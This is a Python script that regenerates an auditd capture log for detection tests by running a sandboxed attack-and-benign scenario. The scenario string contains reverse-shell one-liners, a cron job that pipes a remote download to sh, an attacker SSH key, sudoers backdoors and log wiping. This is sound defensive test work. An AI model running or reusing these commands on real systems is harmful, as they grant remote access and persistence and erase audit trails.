"""Regenerates capture.log: a real auditd (``auditd -n``) records an attack-and-benign scenario.

Run as root from the repository: ``python tests/data/auditd/capture.py tests/data/auditd/capture.log``.
The scenario runs with login uid 4242 (rules filter on it, so nothing else on the machine is
recorded) inside a private mount namespace whose /etc is an overlay and whose /root and /var/log are
tmpfs: the cron, systemd, sudoers, authorized_keys and log files it writes never reach the host.
User-space records (logins, sudo, account changes) are sent to the kernel the way libaudit does.
"""

import shlex
import subprocess
import sys
import tempfile
import time
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))
from auditd_support import _SEND, AUID, ENV, USER_TYPES, running_auditd  # noqa: E402

SETUP = f"""
set -e
T=$(mktemp -d)
mount -t tmpfs tmpfs $T && mkdir -p $T/up $T/wk
mount -t overlay overlay -o lowerdir=/etc,upperdir=$T/up,workdir=$T/wk /etc
mount -t tmpfs tmpfs /root
mount -t tmpfs tmpfs /var/log
cd /root
echo {AUID} > /proc/self/loginuid
exec /bin/bash -c "$1"
"""
SCENARIO = r"""
set +e
# benign administration
ls -la /tmp > /dev/null
id > /dev/null
uname -a > /dev/null
cat /etc/hostname > /dev/null
# reverse shells (the listener is absent: the connects fail)
bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'
/usr/bin/python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("127.0.0.1",9));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'
# persistence
echo '* * * * * root curl -s http://203.0.113.5/x | sh' > /etc/cron.d/siem-persist
mkdir -p /root/.ssh
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBadKeyForTestsOnly attacker@evil' >> /root/.ssh/authorized_keys
mkdir -p /etc/systemd/system
printf '[Service]\nExecStart=/bin/sh -c "sleep 1"\n' > /etc/systemd/system/siem-backdoor.service
# privilege: sudoers
echo 'attacker ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers
mkdir -p /etc/sudoers.d
echo 'attacker ALL=(ALL) NOPASSWD:ALL' > /etc/sudoers.d/90-attacker
# log tampering
echo 'Jan  1 00:00:00 h sshd[1]: Accepted password for root' > /var/log/auth.log
truncate -s 0 /var/log/auth.log
echo x > /var/log/wtmp
rm -f /var/log/wtmp
"""
SSHD = 'exe="/usr/sbin/sshd" hostname={ip} addr={ip} terminal=ssh res={res}'
MESSAGES = [
    ("USER_AUTH", 'op=PAM:authentication grantors=? acct="root" ' + SSHD.format(ip="203.0.113.9", res="failed")),
    ("USER_LOGIN", 'op=login acct="root" ' + SSHD.format(ip="203.0.113.9", res="failed")),
    ("USER_AUTH", 'op=PAM:authentication grantors=pam_unix acct="alice" ' + SSHD.format(ip="198.51.100.7", res="success")),
    ("CRED_ACQ", 'op=PAM:setcred grantors=pam_unix acct="alice" ' + SSHD.format(ip="198.51.100.7", res="success")),
    ("USER_LOGIN", "op=login id=1000 " + SSHD.format(ip="198.51.100.7", res="success")),
    ("USER_START", 'op=PAM:session_open grantors=pam_unix acct="alice" ' + SSHD.format(ip="198.51.100.7", res="success")),
    ("USER_CMD", 'cwd="/home/alice" cmd=' + "/usr/bin/cat /etc/shadow".encode().hex().upper()
     + ' exe="/usr/bin/sudo" terminal=pts/0 res=success'),
    ("USER_MGMT", 'op=adding user id=1001 exe="/usr/sbin/useradd" hostname=? addr=? terminal=pts/0 res=success'),
    ("SERVICE_START", 'unit=siem-backdoor comm="systemd" exe="/usr/lib/systemd/systemd" hostname=? addr=? '
     "terminal=? res=success"),
]
SCENARIO += "".join(f"/usr/bin/python3 -c {shlex.quote(_SEND)} {USER_TYPES[t]} {shlex.quote(m)}\n" for t, m in MESSAGES)


def main(out: str) -> None:
    with tempfile.TemporaryDirectory() as tmp, running_auditd(Path(tmp)) as audit:
        a = f"auid={AUID}"
        audit.rule("-a", "always,exit", "-F", "arch=b64", "-S", "execve", "-F", a, "-k", "exec")
        audit.rule("-a", "always,exit", "-F", "arch=b64", "-S", "connect", "-F", a, "-k", "network_connect")
        audit.rule("-a", "always,exit", "-F", "arch=b64", "-F", "perm=wa", "-F", a, "-F", "success=1", "-k", "file_write")
        r = subprocess.run(["unshare", "-m", "--propagation", "private", "/bin/bash", "-c", SETUP, "scenario", SCENARIO],
                           capture_output=True, env=ENV, cwd="/", timeout=60)
        print(r.stderr.decode()[-2000:], file=sys.stderr)
        time.sleep(1.5)
        text = audit.wait_for("SERVICE_START")
    lines = [ln for ln in text.split("\n") if ln and "DAEMON_" not in ln]
    Path(out).write_text("\n".join(lines) + "\n", "utf-8")
    print(f"{len(lines)} lines", file=sys.stderr)


if __name__ == "__main__":
    main(sys.argv[1])
